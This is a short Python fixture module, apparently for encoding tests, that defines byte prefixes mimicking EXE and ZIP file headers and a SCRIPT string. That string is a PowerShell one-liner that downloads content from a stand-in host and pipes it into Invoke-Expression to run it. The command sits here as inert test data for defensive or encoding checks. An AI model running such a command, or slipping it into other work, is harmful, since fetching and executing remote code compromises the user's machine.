"""What the tests of encodings have encoded: the beginnings of files, and enough behind."""

EXE = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0" + bytes(range(100))
ZIP = b"PK\3\4\x14\0\0\0\x08\0" + bytes(range(90))
SCRIPT = "Invoke-WebRequest https://whale.example/krill | Invoke-Expression"
